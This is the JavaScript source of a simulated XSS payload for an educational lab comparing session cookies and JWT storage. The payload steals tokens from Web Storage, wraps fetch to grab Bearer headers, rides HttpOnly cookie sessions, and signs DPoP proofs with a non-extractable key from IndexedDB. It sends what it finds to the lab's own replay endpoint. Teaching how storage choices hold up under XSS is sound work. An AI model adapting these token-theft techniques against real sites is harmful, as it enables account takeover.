// SIMULATED XSS PAYLOAD of the Session vs JWT Lab (demo profile only). Not an attack tool.
//
// The lab's /token-storage page loads this file on purpose, from its own origin, to stand for a
// script an attacker got to run in the page. It talks to nothing but this lab: its "exfiltration"
// goes to the lab's own thief (/attacker/replay), which sends what it receives to the lab's API from
// the web server, as an attacker would from their own machine. It reports each finding to the page
// with a `lab:xss` event, so the page can show them; a real payload would report to its owner.
;(() => {
  const JWT = /eyJ[\w-]*\.[\w-]+\.[\w-]+/g
  const send = window.fetch.bind(window)
  const report = (finding) => window.dispatchEvent(new CustomEvent('lab:xss', { detail: finding }))

  /** The API a token is for: the lab names it in the token's audience ("session-vs-jwt-lab:jwt"). */
  const strategyOf = (token) => {
    try {
      const payload = JSON.parse(atob(token.split('.')[1].replace(/-/g, '+').replace(/_/g, '/')))
      return String(payload.aud).split(':')[1] || 'jwt'
    } catch {
      return 'jwt'
    }
  }

  /** Sends a credential to the thief, who replays it from elsewhere against the API's /me. */
  const exfiltrate = async (strategy, credential) => {
    const response = await send('/attacker/replay', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ strategy, target: 'me', credential }),
    })
    const body = await response.json().catch(() => null)
    return { status: response.status, code: body?.code ?? null, username: body?.user?.username ?? null }
  }

  const steal = async (finding) => {
    const strategy = strategyOf(finding.token)
    report({ ...finding, strategy, replay: await exfiltrate(strategy, { kind: 'bearer', token: finding.token }) })
  }

  // The DPoP-bound token is taken in part 4, with what a script can do about its key.
  const DPOP_TOKEN_KEY = 'lab-demo:dpop-token'

  // 1. Web Storage: any script of the origin reads all of it.
  for (const [where, storage] of [['localStorage', window.localStorage], ['sessionStorage', window.sessionStorage]]) {
    for (let index = 0; index < storage.length; index++) {
      const key = storage.key(index)
      if (key === DPOP_TOKEN_KEY) continue
      for (const token of storage.getItem(key)?.match(JWT) ?? []) void steal({ where, key, token })
    }
  }

  // 2. A variable inside the app's code has no name a script can reach, but the app sends it: wrap
  //    fetch and take the token from the next request that carries it. Gone after one catch, or a minute.
  const hooked = function (input, init) {
    const headers = new Headers(init?.headers ?? (input instanceof Request ? input.headers : undefined))
    const token = /^Bearer (\S+)$/i.exec(headers.get('authorization') ?? '')?.[1]
    if (token) {
      restore()
      const url = input instanceof Request ? input.url : String(input)
      void steal({ where: 'memory', key: `Authorization header of the app's ${new URL(url, location.href).pathname}`, token })
    }
    return send(input, init)
  }
  const restore = () => {
    if (window.fetch === hooked) window.fetch = send
  }
  window.fetch = hooked
  setTimeout(restore, 60_000)
  report({ where: 'memory', waiting: true })

  // 3. An HttpOnly cookie is not in document.cookie. Send the thief what is there anyway, then use
  //    the login from this very page: the browser adds the cookie to the page's requests by itself.
  void (async () => {
    const visible = document.cookie
      .split('; ')
      .filter(Boolean)
      .map((pair) => pair.slice(0, pair.indexOf('=')))
    const replay = await exfiltrate('jwt-cookie', { kind: 'document.cookie', value: document.cookie })
    const me = await send('/api/jwt-cookie/me')
    const meBody = await me.json().catch(() => null)
    const refresh = await send('/api/jwt-cookie/refresh', { method: 'POST' })
    const refreshBody = await refresh.json().catch(() => null)
    report({
      where: 'cookie',
      visible,
      replay,
      ride: { status: me.status, code: meBody?.code ?? null, username: meBody?.user?.username ?? null },
      rideRefresh: { status: refresh.status, code: refreshBody?.code ?? null, fields: refreshBody ? Object.keys(refreshBody) : [] },
    })
  })()

  // 4. A DPoP-bound token (jwt-dpop) is useless without its key, a CryptoKey the page created
  //    non-extractable and keeps in IndexedDB. The payload reaches the key object, cannot export it,
  //    sends the token alone to the thief, then signs a proof with the key from this very page.
  void (async () => {
    const token = window.sessionStorage.getItem(DPOP_TOKEN_KEY)
    if (!token) return
    const key = await new Promise((resolve) => {
      const open = window.indexedDB.open('lab-dpop')
      open.onerror = () => resolve(null)
      open.onsuccess = () => {
        try {
          const get = open.result.transaction('keys').objectStore('keys').get('browser')
          get.onsuccess = () => resolve(get.result ?? null)
          get.onerror = () => resolve(null)
        } catch {
          resolve(null)
        }
      }
    })
    if (!key) return
    const exported = await window.crypto.subtle.exportKey('pkcs8', key.privateKey).then(
      () => 'exported',
      (error) => error.name,
    )
    const replay = await exfiltrate('jwt-dpop', { kind: 'bearer', token })
    // A proof signed in place (RFC 9449 §4.2): WebCrypto's ECDSA signature is already in JWS form.
    const b64 = (bytes) => window.btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '')
    const text = (value) => b64(new window.TextEncoder().encode(JSON.stringify(value)))
    const url = new URL('/api/jwt-dpop/me', location.href).href
    const { kty, crv, x, y } = await window.crypto.subtle.exportKey('jwk', key.publicKey)
    const ath = b64(await window.crypto.subtle.digest('SHA-256', new window.TextEncoder().encode(token)))
    const input = `${text({ typ: 'dpop+jwt', alg: 'ES256', jwk: { kty, crv, x, y } })}.${text({ jti: window.crypto.randomUUID(), htm: 'GET', htu: url, iat: Math.floor(Date.now() / 1000), ath })}`
    const signature = await window.crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, key.privateKey, new window.TextEncoder().encode(input))
    const me = await send(url, { headers: { authorization: `DPoP ${token}`, dpop: `${input}.${b64(signature)}` } })
    const meBody = await me.json().catch(() => null)
    report({
      where: 'key',
      token,
      extractable: key.privateKey.extractable,
      exported,
      replay,
      ride: { status: me.status, code: meBody?.code ?? null, username: meBody?.user?.username ?? null },
    })
  })()
})()
